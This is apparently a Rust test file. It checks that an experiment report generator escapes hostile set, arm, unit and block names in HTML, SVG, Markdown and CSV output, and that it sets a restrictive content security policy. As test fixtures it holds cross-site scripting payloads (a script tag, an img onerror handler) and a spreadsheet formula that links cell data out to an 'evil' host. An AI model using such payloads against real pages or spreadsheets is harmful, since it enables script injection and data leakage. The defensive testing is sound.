//! Names from the data never act as markup: a report on an experiment whose set, arm, unit, block
//! and stratum names hold HTML, quotes, `|`, backticks, newlines (in data values) and non-ASCII text escapes every
//! one of them in HTML, SVG, Markdown and CSV, and the page still reads them back.

use crate::common;

use common::Workdir;

// A line break in a name is refused at load (tests/cli/round_seven_output.rs).
const SET: &str = "</title><script>alert('set')</script> line two & \"more\"";
const ARM: &str = "<img src=x onerror=alert(1)>'q'&";
const UNIT: &str = "few_shot/<b>01</b>";
const BLOCK: &str = "few<i>shot</i>";
const SLICE: &str = "bill|ing `x` 日本 🙂";
const FORMULA_ARM: &str = "=HYPERLINK(\"http://evil\"&A1;\"x\")";

fn hostile() -> Workdir {
    let w = Workdir::tiny();
    let toml = format!(
        "set = {}\nmodel = \"m\"\nthreshold_drop = 0.05\nstrata = [\"turns\"]\n\n[[blocks]]\nname = {}\nneed = \"needed_units\"\n",
        serde_json::to_string(SET).unwrap(),
        serde_json::to_string(BLOCK).unwrap()
    );
    w.write("experiment.toml", &toml);
    let csv_quote = |s: &str| format!("\"{}\"", s.replace('"', "\"\""));
    for (file, from, to) in [
        (
            "units.csv",
            "few_shot/01,few_shot",
            format!("{},{}", csv_quote(UNIT), csv_quote(BLOCK)),
        ),
        (
            "units.csv",
            "few_shot/02,few_shot",
            format!("few_shot/02,{}", csv_quote(BLOCK)),
        ),
        (
            "arms.csv",
            "without-ex1,few_shot/01",
            format!("{},{}", csv_quote(ARM), csv_quote(UNIT)),
        ),
        (
            "arms.csv",
            "without-examples,few_shot/01;few_shot/02",
            format!(
                "{},{}",
                csv_quote(FORMULA_ARM),
                csv_quote(&format!("{UNIT};few_shot/02"))
            ),
        ),
    ] {
        w.edit(file, from, &to);
    }
    let results = std::fs::read_to_string(w.path("results.csv")).unwrap();
    w.write(
        "results.csv",
        &results
            .replace("without-ex1", &csv_quote(ARM))
            .replace("without-examples", &csv_quote(FORMULA_ARM)),
    );
    let cases = std::fs::read_to_string(w.path("cases.csv")).unwrap();
    w.write(
        "cases.csv",
        &cases
            .replace("billing", &csv_quote(SLICE))
            .replace("multi", &csv_quote(SLICE)),
    );
    let mix = std::fs::read_to_string(w.path("mix.csv")).unwrap();
    w.write("mix.csv", &mix.replace("multi", &csv_quote(SLICE)));
    w
}

#[test]
fn no_name_reaches_the_report_unescaped() {
    let w = hostile();
    let root = tempfile::tempdir().unwrap();
    let out = root.path().join("rep");
    common::report_into(&out, &w.dir);

    let html = std::fs::read_to_string(out.join("index.html")).unwrap();
    // One script runs: the page's own, last, and the policy allows it by hash alone.
    assert_eq!(html.matches("<script").count(), 1);
    let script_at = html.find("<script>").unwrap();
    let page = &html[..script_at];
    assert!(html[script_at..].starts_with("<script>// The report's only script"));
    assert!(html.contains("script-src 'sha256-") && !html.contains("unsafe-inline"));
    for raw in ["<script", "<img", "<b>01", "<i>shot", "onerror=alert(1)>"] {
        assert!(!page.contains(raw), "{raw} reached index.html unescaped");
    }
    // The page still says the names, escaped.
    for escaped in [
        "&lt;/title&gt;&lt;script&gt;alert(&#39;set&#39;)&lt;/script&gt;",
        "&lt;img src=x onerror=alert(1)&gt;",
        "日本 🙂",
    ] {
        assert!(html.contains(escaped), "{escaped} missing from index.html");
    }
    assert_eq!(html.matches("<title>").count(), 1);
    assert!(html.contains("Content-Security-Policy") && html.contains("default-src 'none'"));

    for entry in std::fs::read_dir(out.join("charts")).unwrap() {
        let path = entry.unwrap().path();
        if path.extension().is_some_and(|e| e == "svg") {
            let svg = std::fs::read_to_string(&path).unwrap();
            assert!(
                !svg.contains("<img") && !svg.contains("<script") && !svg.contains("<b>"),
                "{}",
                path.display()
            );
        }
    }

    let md = std::fs::read_to_string(out.join("report.md")).unwrap();
    for raw in ["<script", "<img", "<b>01", "`x`", "bill|ing"] {
        assert!(!md.contains(raw), "{raw} reached report.md unescaped");
    }
    // Every row of a Markdown table has as many cell boundaries as its header.
    let mut in_table: Option<usize> = None;
    for line in md.lines() {
        let bars = line.replace("\\|", "").matches('|').count();
        match (line.starts_with('|'), in_table) {
            (true, None) => in_table = Some(bars),
            (true, Some(n)) => assert_eq!(bars, n, "broken table row: {line}"),
            (false, _) => in_table = None,
        }
    }

    for entry in std::fs::read_dir(out.join("tables")).unwrap() {
        let text = std::fs::read_to_string(entry.unwrap().path()).unwrap();
        for cell in text.lines().flat_map(|l| l.split(',')) {
            let cell = cell.trim_start_matches('"');
            assert!(!cell.starts_with('='), "formula cell {cell}");
        }
    }
}
